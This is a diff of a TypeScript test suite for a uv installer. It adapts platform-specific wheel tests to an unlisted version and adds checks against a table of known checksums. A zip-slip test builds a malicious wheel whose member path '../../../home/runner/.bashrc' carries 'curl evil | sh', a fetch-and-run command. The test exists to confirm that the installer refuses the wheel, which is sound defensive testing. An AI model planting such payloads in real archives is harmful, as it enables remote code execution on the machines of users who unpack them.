@@ -16,12 +16,16 @@ import { writeTarGz, writeZip } from '../../support/archives.js';
 import { FakeGitHubReleases } from '../../support/fake-github-releases.js';
 import { cleanupTempDirs, makeTempDir } from '../../support/fixture-project.js';
 import { LocalIndex } from '../../support/local-index.js';
-import { UV_TEST_VERSION, uvWheelPath } from '../../support/uv-binary.js';
+import { sha256File, UV_TEST_VERSION, uvWheelPath } from '../../support/uv-binary.js';
+import { knownUvVersions, knownUvWheelDigest, parseChecksumInput } from '../../../src/core/setup/known-checksums.js';
 import { wheelBytes } from '../../support/wheels.js';
 
 const FAST: RetryPolicy = { attempts: 2, backoffMs: 1, timeoutMs: 2000, stallMs: 2000 };
 const PLATFORM: RunnerPlatform = { os: 'linux', arch: process.arch === 'arm64' ? 'arm64' : 'x64', libc: 'glibc' };
 const exact = { kind: 'exact', version: UV_TEST_VERSION, origin: 'input' } as const;
+/** Stand-in wheels are served as a release lockstep's table of known digests does not list (it would reject their bytes). */
+const UNLISTED = '0.99.0';
+const unlisted = { kind: 'exact', version: UNLISTED, origin: 'input' } as const;
 
 let htmlIndex: LocalIndex;
 let github: FakeGitHubReleases;
@@ -161,39 +165,40 @@ describe('installUv for other runners', () => {
   });
 
   it('windows: the wheel\'s uv-<v>.data/scripts/uv.exe is the binary, found on an index that also has the other platforms', async () => {
-    const scripts = (...names: string[]) => Object.fromEntries(names.map((n) => [`uv-${UV_TEST_VERSION}.data/scripts/${n}`, `${n} for ${n}`]));
+    const scripts = (...names: string[]) => Object.fromEntries(names.map((n) => [`uv-${UNLISTED}.data/scripts/${n}`, `${n} for ${n}`]));
     for (const tag of ['win_amd64', 'win_arm64', 'macosx_11_0_arm64']) {
       const exe = tag.startsWith('win') ? '.exe' : '';
-      wheels.addWheel({ name: 'uv', version: UV_TEST_VERSION, tag: `py3-none-${tag}`, files: { ...scripts(`uv${exe}`, `uvx${exe}`), 'uv/__init__.py': tag } });
+      wheels.addWheel({ name: 'uv', version: UNLISTED, tag: `py3-none-${tag}`, files: { ...scripts(`uv${exe}`, `uvx${exe}`), 'uv/__init__.py': tag } });
     }
-    const installed = await installUv(exact, on(WINDOWS, 'pypi'));
+    const installed = await installUv(unlisted, on(WINDOWS, 'pypi'));
     expect(installed.from).toBe('pypi');
     expect(readdirSync(installed.dir).sort()).toEqual(['uv.exe', 'uvx.exe']);
-    expect(wheels.downloads(`uv-${UV_TEST_VERSION}-py3-none-win_arm64.whl`)).toBe(1);
+    expect(wheels.downloads(`uv-${UNLISTED}-py3-none-win_arm64.whl`)).toBe(1);
   });
 
   it('macos: a wheel stored without the executable bit still installs a runnable uv', async () => {
-    const scripts = { [`uv-${UV_TEST_VERSION}.data/scripts/uv`]: '#!/bin/sh\n', [`uv-${UV_TEST_VERSION}.data/scripts/uvx`]: '#!/bin/sh\n' };
-    wheels.addWheel({ name: 'uv', version: UV_TEST_VERSION, tag: 'py3-none-macosx_10_12_x86_64', files: scripts }); // zip entries 0644
-    const installed = await installUv(exact, on(MAC, 'pypi'));
+    const scripts = { [`uv-${UNLISTED}.data/scripts/uv`]: '#!/bin/sh\n', [`uv-${UNLISTED}.data/scripts/uvx`]: '#!/bin/sh\n' };
+    wheels.addWheel({ name: 'uv', version: UNLISTED, tag: 'py3-none-macosx_10_12_x86_64', files: scripts }); // zip entries 0644
+    const installed = await installUv(unlisted, on(MAC, 'pypi'));
     expect(isExecutable(installed.binary)).toBe(true);
     expect(isExecutable(path.join(installed.dir, 'uvx'))).toBe(true);
   });
 
   it('alpine: a musl uv is cached apart from the glibc one, so neither is handed to the other libc', async () => {
-    const glibc = await installUv(exact, options('pypi'));
-    expect(findCachedUv(UV_TEST_VERSION, { ...PLATFORM, libc: 'musl' })).toBeUndefined();
+    wheels.addFile(readFileSync(uvWheelPath()), { filename: path.basename(uvWheelPath()).replace(`uv-${UV_TEST_VERSION}-`, `uv-${UNLISTED}-`) });
+    const glibc = await installUv(unlisted, on(PLATFORM, 'pypi'));
+    expect(findCachedUv(UNLISTED, { ...PLATFORM, libc: 'musl' })).toBeUndefined();
     wheels.addWheel({
       name: 'uv',
-      version: UV_TEST_VERSION,
+      version: UNLISTED,
       tag: 'py3-none-musllinux_1_1_x86_64',
-      files: { [`uv-${UV_TEST_VERSION}.data/scripts/uv`]: 'musl uv', [`uv-${UV_TEST_VERSION}.data/scripts/uvx`]: 'musl uvx' },
+      files: { [`uv-${UNLISTED}.data/scripts/uv`]: 'musl uv', [`uv-${UNLISTED}.data/scripts/uvx`]: 'musl uvx' },
     });
-    const musl = await installUv(exact, on(ALPINE, 'pypi'));
+    const musl = await installUv(unlisted, on(ALPINE, 'pypi'));
     expect(musl.from).toBe('pypi');
-    expect(musl.dir).toBe(path.join(toolCache, 'uv', UV_TEST_VERSION, 'x64-musl'));
+    expect(musl.dir).toBe(path.join(toolCache, 'uv', UNLISTED, 'x64-musl'));
     expect(readFileSync(musl.binary, 'utf8')).toBe('musl uv');
-    expect(findCachedUv(UV_TEST_VERSION, PLATFORM)?.binary).toBe(glibc.binary);
+    expect(findCachedUv(UNLISTED, PLATFORM)?.binary).toBe(glibc.binary);
   });
 });
 
@@ -219,9 +224,9 @@ describe('installUv with a zip-slip uv wheel (issue 13)', () => {
   it('refuses it, saying which member would land outside (not that unzip is missing), and caches nothing', async () => {
     const evil = await LocalIndex.start({ json: false });
     try {
-      const filename = path.basename(uvWheelPath());
-      evil.addFile(writeZip([{ path: `uv-${UV_TEST_VERSION}.data/scripts/uv`, data: 'x', mode: 0o755 }, { path: '../../../home/runner/.bashrc', data: 'curl evil | sh' }]), { filename });
-      const failure = installUv(exact, { ...options('pypi'), index: new SimpleApiIndex(evil.url, FAST) });
+      const filename = path.basename(uvWheelPath()).replace(`uv-${UV_TEST_VERSION}-`, `uv-${UNLISTED}-`);
+      evil.addFile(writeZip([{ path: `uv-${UNLISTED}.data/scripts/uv`, data: 'x', mode: 0o755 }, { path: '../../../home/runner/.bashrc', data: 'curl evil | sh' }]), { filename });
+      const failure = installUv(unlisted, { ...options('pypi'), index: new SimpleApiIndex(evil.url, FAST) });
       await expect(failure).rejects.toThrow(/refusing to unpack the uv wheel: 1 member\(s\) would be written outside its folder \(\.\.\/\.\.\/\.\.\/home\/runner\/\.bashrc\)/);
       await expect(failure).rejects.not.toThrow(/unzip/);
     } finally {
@@ -274,5 +279,42 @@ describe('uv releases from the GitHub API', () => {
     expect(githubReleasesApi('https://github.com', ghes)).toEqual({ url: 'https://api.github.com', sendToken: false });
     // ...unless the GHES instance itself mirrors astral-sh/uv.
     expect(githubReleasesApi('https://ghes.example.com', ghes)).toEqual({ url: 'https://ghes.example.com/api/v3', sendToken: true });
+  });
+});
+
+describe('known uv digests and the checksum input', () => {
+  it("the table holds PyPI's own digest of the uv wheel the tests use", () => {
+    expect(knownUvWheelDigest(path.basename(uvWheelPath()))).toBe(sha256File(uvWheelPath()));
+    expect(knownUvVersions()).toContain(UV_TEST_VERSION);
+  });
+
+  it('a mirror serving other bytes under a known uv release fails, even though it publishes their hash', async () => {
+    const mirror = await LocalIndex.start();
+    try {
+      // uv 0.13.1 is in the table; these bytes are 0.13.9's, and the mirror's sha256 matches them.
+      mirror.addFile(readFileSync(uvWheelPath()), { filename: path.basename(uvWheelPath()).replace(`uv-${UV_TEST_VERSION}-`, 'uv-0.13.1-') });
+      const error = await installUv({ kind: 'exact', version: '0.13.1', origin: 'input' }, { ...options('pypi'), index: new SimpleApiIndex(mirror.url, FAST) }).catch((e: unknown) => e);
+      expect(error).toBeInstanceOf(ChecksumMismatchError);
+      expect((error as Error).message).toContain(knownUvWheelDigest(path.basename(uvWheelPath()).replace(`uv-${UV_TEST_VERSION}-`, 'uv-0.13.1-'))!);
+      expect((error as ChecksumMismatchError).hint).toContain("lockstep's table of known uv digests");
+      expect(existsSync(path.join(toolCache, 'uv'))).toBe(false);
+    } finally {
+      await mirror.close();
+    }
+  });
+
+  it('checksum input: the download must match it (wheel and GitHub archive alike)', async () => {
+    const wrong = 'ab'.repeat(32);
+    await expect(installUv(exact, { ...options('pypi'), checksum: wrong })).rejects.toThrow(/checksum mismatch.*expected sha256 abab/);
+    await expect(installUv(exact, { ...options('github'), checksum: wrong })).rejects.toThrow(ChecksumMismatchError);
+    expect(existsSync(path.join(toolCache, 'uv'))).toBe(false);
+    const installed = await installUv(exact, { ...options('pypi'), checksum: sha256File(uvWheelPath()) });
+    expect(installed.from).toBe('pypi');
+  });
+
+  it('parses the checksum input', () => {
+    expect(parseChecksumInput('')).toBe('');
+    expect(parseChecksumInput(`sha256:${'AB'.repeat(32)}`)).toBe('ab'.repeat(32));
+    expect(parseChecksumInput('abc')).toBeNull();
   });
 });
